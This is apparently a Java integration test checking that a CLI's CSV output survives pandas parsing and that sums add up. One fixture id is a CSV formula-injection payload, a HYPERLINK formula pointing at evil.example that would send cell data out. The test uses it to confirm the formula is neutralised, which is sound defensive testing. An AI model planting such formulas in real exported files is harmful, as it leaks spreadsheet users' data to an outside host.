package io.github.cptskit.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.File;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The CLI's CSV files as a research pipeline reads them: plain {@code pandas.read_csv(f)} (Debian's
 * python3-pandas, installed by .ci/run), hostile ids (formula, comma, quote, newline) through Python's
 * csv module, codes kept as text, and sums that add up. In CI (CI=true) a missing pandas fails the
 * test; elsewhere it is skipped with a loud message.
 */
class CsvPandasIT {

    @TempDir
    Path tmp;

    private static String python() throws InterruptedException {
        List<String> candidates = new ArrayList<>();
        if (System.getenv("PYTHON") != null) {
            candidates.add(System.getenv("PYTHON"));
        }
        candidates.addAll(List.of("python3", "/usr/bin/python3"));
        for (String c : candidates) {
            try {
                Process p = new ProcessBuilder(c, "-c", "import pandas")
                        .redirectErrorStream(true)
                        .start();
                p.getInputStream().readAllBytes();
                if (p.waitFor(60, TimeUnit.SECONDS) && p.exitValue() == 0) {
                    return c;
                }
            } catch (IOException e) {
                // try the next one
            }
        }
        return null;
    }

    private static int run(List<String> cmd, StringBuilder output) throws IOException, InterruptedException {
        Process p = new ProcessBuilder(cmd).redirectErrorStream(true).start();
        p.getOutputStream().close();
        output.append(new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8));
        assertThat(p.waitFor(300, TimeUnit.SECONDS)).isTrue();
        return p.exitValue();
    }

    @Test
    void pandasReadsEveryCsvAndTheSumsAddUp() throws Exception {
        String python = python();
        if (python == null) {
            String message = "python3 with pandas not found (Debian: apt-get install python3-pandas): the CSV files"
                    + " were NOT checked with pandas";
            if ("true".equals(System.getenv("CI"))) {
                throw new AssertionError(message + " — required in CI (.ci/run installs it)");
            }
            System.err.println("!!!!! SKIPPED: " + message);
            Assumptions.abort(message);
        }
        Path portfolio = tmp.resolve("hostile.csv");
        Files.writeString(
                portfolio,
                "id,name,region,departement,population,signature,communes\n"
                        + "\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",Evil,84,01,41000,2020-01-01,"
                        + "01173 01160 01419\n"
                        + "\"a,b\",Comma,84,01,41000,2020-06-01,01005 01021\n"
                        + "\"he said \"\"hi\"\"\",Quote,01,971,67823,2019-11-05,97102 97108\n"
                        + "\"line\nbreak\",Newline,11,75,90000,2021-03-01,75056\n"
                        + "-5,Minus,84,01,41000,2022-01-01,01030 01105\n");
        Path reform = tmp.resolve("less.json");
        Files.writeString(
                reform,
                "{\"version\": \"less\", \"title\": \"-10 000 € fonctionnement taille 2\","
                        + " \"effective\": \"2024-01-01\", \"parameters\": {\"fonctionnement.taille2\": 50000}}");
        Path out = tmp.resolve("out");
        String cp = System.getProperty("cpts.cli.jar") + File.pathSeparator + Path.of("target", "lib") + File.separator
                + "*";
        StringBuilder log = new StringBuilder();
        int exit = run(
                List.of(
                        Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                        "-cp",
                        cp,
                        "io.github.cptskit.cli.Main",
                        "simulate",
                        portfolio.toString(),
                        "--draws",
                        "40",
                        "--by-cpts-draws",
                        "40",
                        "--reform",
                        reform.toString(),
                        "--out",
                        out.toString(),
                        "--draws-out",
                        out.resolve("draws.csv").toString()),
                log);
        assertThat(exit).as(log.toString()).isZero();
        Path script = tmp.resolve("check.py");
        Files.writeString(script, SCRIPT);
        StringBuilder py = new StringBuilder();
        int code = run(List.of(python, script.toString(), out.toString()), py);
        assertThat(code).as(py.toString()).isZero();
        assertThat(py.toString()).contains("OK 5 files");
    }

    private static final String SCRIPT = """
            import csv, glob, os, sys
            import pandas as pd
            out = sys.argv[1]
            files = sorted(glob.glob(os.path.join(out, "*.csv")))
            assert len(files) == 5, files
            frames = {}
            for f in files:
                frames[os.path.basename(f)] = pd.read_csv(f)  # plain: no comment=, no skiprows=
            years = frames["simulation-years.csv"]
            summary = frames["simulation-summary.csv"]
            cpts = pd.read_csv(os.path.join(out, "simulation-cpts.csv"), dtype={"region": str, "cpts": str})
            draws = frames["draws.csv"]
            # Hostile ids round-trip through the csv module; the formula is neutralised.
            with open(os.path.join(out, "simulation-cpts.csv"), newline="", encoding="utf-8") as fh:
                rows = list(csv.reader(fh))
            assert all(len(r) == len(rows[0]) for r in rows), "ragged rows"
            ids = {r[1] for r in rows[1:]}
            expected = {"'=HYPERLINK(\\"http://evil.example/?x=\\"&A1,\\"click\\")", "a,b", 'he said "hi"', "line\\nbreak", "'-5"}
            assert ids == expected, ids
            # Codes stay text: Guadeloupe is region 01, not 1.
            assert "01" in set(cpts["region"]), set(cpts["region"])
            # Negative differences are numbers, not neutralised text.
            diff = summary[summary["scenario"] == "less_minus_baseline"]
            assert diff["mean_eur"].dtype.kind == "f", diff["mean_eur"].dtype
            assert (diff[(diff["breakdown"] == "total") & (diff["year"] == 2025)]["mean_eur"] < 0).all()
            # Sums: components add up to the total; CPTS rows add up to the national mean (same draws).
            comps = [c for c in years.columns if c.startswith("mean_") and c.endswith("_eur") and c != "mean_eur"]
            for _, r in years.iterrows():
                assert abs(sum(r[c] for c in comps) - r["mean_eur"]) < 0.01 * len(comps), r
            base = cpts[cpts["scenario"] == "baseline"].groupby("year")["mean_eur"].sum()
            for _, r in years[years["scenario"] == "baseline"].iterrows():
                got = base.get(r["year"], 0.0)
                assert abs(got - r["mean_eur"]) < 0.01 * len(cpts), (r["year"], got, r["mean_eur"])
            # Every draw carries its parameters beside its totals.
            assert "param_realisation.moyenne" in draws.columns and "param_tarif.quantile" in draws.columns
            assert len(draws) == 40
            assert abs(draws["total_2025_eur"].mean() - years[(years["scenario"] == "baseline") & (years["year"] == 2025)]["mean_eur"].iloc[0]) < 0.01
            print("OK", len(files), "files")
            """;
}
